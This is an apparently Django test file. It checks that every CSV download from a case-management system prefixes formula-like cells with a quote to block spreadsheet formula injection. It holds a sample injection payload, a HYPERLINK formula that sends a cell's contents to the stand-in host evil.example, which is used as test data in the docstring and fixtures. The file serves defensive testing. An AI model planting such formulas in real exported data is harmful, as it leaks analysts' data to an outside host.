"""Spreadsheet formulas in imported data come back as text in every download.

A name such as ``=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`` would run when an
analyst opens the CSV in a spreadsheet. Every download writes such text with a leading ``'``
(OWASP's advice), and leaves numbers as numbers.
"""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from onecase.accounts.models import Agency, Role
from onecase.cases.services import case_open
from onecase.contacts.models import Contact
from onecase.contacts.services import resolution_refresh
from onecase.costs.models import UnitCost
from onecase.exports import FORMULA_STARTS, csv_response, csv_text, csv_writer, neutralise
from onecase.imports.services import import_contacts
from onecase.linkage.services import links_export
from onecase.meetings.models import Meeting, MeetingType
from onecase.meetings.services import (
    agenda_item_add,
    attendee_add,
    attendee_role_set,
    meeting_create,
    series_create,
)
from onecase.people.models import Address, AgencyPerson, Household, Person, PersonLink
from onecase.sharing.models import AuditEvent
from onecase.sharing.services import audit_record
from tests.auth import sign_in
from tests.factories import AgencyFactory, UserFactory

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
AGENCY = "-HARM"  # agency codes may start with a hyphen
# Tabs and carriage returns are trimmed on import, so those values are written to the records after it.
ADDRESSES = ["\t1 Tab Row", "\r2 Return Row", "@3 At Row", "=4 Equals Row", "+5 Plus Row"]


# --- the helper ---------------------------------------------------------------------------


def test_the_helper_knows_the_dangerous_starts():
    assert set(FORMULA_STARTS) == set(DANGEROUS)


@pytest.mark.parametrize("start", DANGEROUS)
def test_text_that_could_start_a_formula_is_prefixed(start):
    assert neutralise(f"{start}SUM(1,2)") == f"'{start}SUM(1,2)"


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.25, 7, Decimal("0.00"), None, dt.date(2025, 1, 2)])
def test_numbers_and_other_values_are_left_alone(value):
    assert neutralise(value) is value


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_its_words(text):
    result = neutralise(text)
    assert not result.startswith(DANGEROUS)
    assert result == (f"'{text}" if text.startswith(DANGEROUS) else text)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.decimals(allow_nan=False, allow_infinity=False)),
                         min_size=1, max_size=5), min_size=1, max_size=5))
def test_csv_written_by_the_helper_reads_back_safe_and_whole(rows):
    out = io.StringIO(newline="")
    csv_writer(out).writerows(rows)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(read) == len(rows)
    for written, got in zip(rows, read, strict=True):
        for value, cell in zip(written, got, strict=True):
            assert not cell.startswith(DANGEROUS) or not isinstance(value, str)
            assert cell == (str(neutralise(value)) if isinstance(value, str) else str(value))


def test_numbers_stay_numbers_in_the_file():
    text = csv_text(["amount", "note"], [[Decimal("-12.50"), "-12.50"], [-3, "@home"]])
    assert text.splitlines() == ["amount,note", "-12.50,'-12.50", "-3,'@home"]


def test_csv_response_is_a_named_attachment():
    response, writer = csv_response("demand-household-2025-01-01.csv")
    writer.writerow(["label", "contacts"])
    writer.writerow([FORMULA, 3])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="demand-household-2025-01-01.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode(), newline=""))) == [["label", "contacts"],
                                                                                   [f"'{FORMULA}", "3"]]


# --- every download -----------------------------------------------------------------------


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(text: str, *expected: str) -> list[list[str]]:
    """No cell of the CSV starts a formula, and each of ``expected`` is there, readable, after a '."""
    rows = rows_of(text)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
    for value in expected:
        assert f"'{value}" in cells, value
    return rows


@pytest.fixture
def harmful(db, tmp_path):
    """Five people of agency -HARM, imported with formulas in their names, needs, outcomes and addresses."""
    path = tmp_path / "harm.csv"
    now = timezone.now()
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["agency", "record_id", "person_ref", "occurred_at", "contact_type", "given_name",
                         "family_name", "address_line", "presenting_need", "outcome", "staff_role"])
        for n in range(5):
            for days in (5, 10):
                writer.writerow([AGENCY, f"-R{n}-{days}", f"=P{n}", (now - dt.timedelta(days=days)).isoformat(),
                                 "+call", FORMULA if n == 0 else "Alex", "+Smith" if n == 0 else f"-Jones{n}",
                                 "@SUM(1+1)", FORMULA, "-2+3", "@officer"])
    import_contacts(actor=None, path=path)
    agency = Agency.objects.get(code=AGENCY)
    people = []
    for n, line in enumerate(ADDRESSES):
        household = Household.objects.create(address=Address.objects.create(postcode=f"ST{n} 1AA", line=line))
        person = Person.objects.create(household=household)
        record = AgencyPerson.objects.get(agency=agency, person_ref=f"=P{n}")
        PersonLink.objects.create(agency_person=record, person=person, match_probability=0.99)
        people.append(person)
    resolution_refresh()
    first = AgencyPerson.objects.get(agency=agency, person_ref="=P0")
    AgencyPerson.objects.filter(pk=first.pk).update(family_name="\tTab", address_line="\rReturn Street")
    Contact.objects.filter(agency_person=first).update(outcome="\tsent away", staff_role="\rnight shift")
    UnitCost.objects.create(agency=agency, contact_type="+call", unit_cost_gbp=Decimal("5.00"), price_year="2019-20")
    return {"agency": agency, "people": people}


def test_demand_downloads_neutralise_names_and_addresses(client, harmful):
    worker = UserFactory(username="@mallory", agency=harmful["agency"], role=Role.KEY_WORKER)
    sign_in(client, worker)
    rows = assert_neutralised(client.get("/demand.csv?by=person&top=10").content.decode(), f"{AGENCY}=2")
    assert any(cell.startswith(f"'{FORMULA}") for row in rows for cell in row)
    assert {row[rows[0].index("cost_gbp")] for row in rows[1:]} == {"10.00"}
    assert_neutralised(client.get("/demand.csv?by=household&top=10").content.decode(), *ADDRESSES)


def test_analyst_downloads_neutralise_needs_and_agency_names(client, harmful):
    analyst = UserFactory(agency=AgencyFactory(code="PARTNERSHIP"), role=Role.ANALYST)
    sign_in(client, analyst)
    context = assert_neutralised(client.get("/demand/in-context.csv").content.decode(), FORMULA.lower(), AGENCY)
    assert ["in their words", f"'{FORMULA.lower()}", "people", "5", "5"] in context
    assert_neutralised(client.get("/demand/failure.csv?by=agency").content.decode(), AGENCY)
    assert_neutralised(client.get("/demand/failure.csv?by=month").content.decode())
    assert_neutralised(client.get("/demand/per-month.csv").content.decode())


def test_subject_access_bundle_neutralises_every_csv(client, harmful):
    person = harmful["people"][0]
    mallory = UserFactory(username="@mallory", agency=harmful["agency"], role=Role.PRACTITIONER)
    audit_record(user=mallory, action=AuditEvent.Action.DISCLOSE, object_type="person", object_id=person.pk,
                 purpose=FORMULA)
    sign_in(client, UserFactory(agency=harmful["agency"], role=Role.DPO))
    response = client.get(f"/people/{person.pk}/subject-access.zip")
    assert response.status_code == 200
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    expected = {
        "agency_records.csv": (AGENCY, "=P0", FORMULA, "\tTab", "\rReturn Street"),
        "contacts.csv": ("-R0-5", "+call", FORMULA, "\tsent away", "\rnight shift"),
        "disclosures.csv": ("@mallory", AGENCY, FORMULA),
    }
    assert {name for name in bundle.namelist() if name.endswith(".csv")} == set(expected)
    for name, values in expected.items():
        assert_neutralised(bundle.read(name).decode(), *values)


def test_case_cost_download_neutralises_agency_codes_and_keeps_amounts(client, harmful):
    worker = UserFactory(agency=harmful["agency"], role=Role.KEY_WORKER)
    case = case_open(actor=None, key_worker=worker, household=harmful["people"][0].household)
    sign_in(client, worker)
    rows = assert_neutralised(client.get(f"/cases/{case.pk}/costs.csv").content.decode(), AGENCY)
    assert rows[1][:3] == [f"'{AGENCY}", "2", "10.00"]


def test_meeting_cost_download_neutralises_series_names(client, harmful):
    series = series_create(actor=None, kind=MeetingType.MARAC, name=FORMULA, chair_agency=harmful["agency"])
    held = timezone.localdate() - dt.timedelta(days=3)
    meeting = meeting_create(actor=None, series=series, held_on=held, status=Meeting.Status.HELD)
    role = attendee_role_set(actor=None, code="chair", name="Chair", hourly_rate_gbp="50.00")
    attendee_add(actor=None, meeting=meeting, name="=Attendee", agency=harmful["agency"], role=role, hours="2")
    agenda_item_add(actor=None, meeting=meeting, person=harmful["people"][0], reason=FORMULA)
    admin = UserFactory(agency=AgencyFactory(code="PARTNERSHIP"), role=Role.PARTNERSHIP_ADMIN)
    sign_in(client, admin)
    text = client.get(f"/meetings/costs.csv?since={held}&until={held}").content.decode()
    rows = assert_neutralised(text, FORMULA)
    assert ["total", "", "", "", "", "", "1", "", "", "100.00"] in rows


def test_links_export_neutralises_agency_codes_and_references(harmful, tmp_path):
    path = tmp_path / "links.csv"
    assert links_export(actor=None, path=path) == 5
    rows = assert_neutralised(path.read_text(encoding="utf-8"), AGENCY, "=P0", "=P4")
    assert rows[1][-1] == "0.990000"
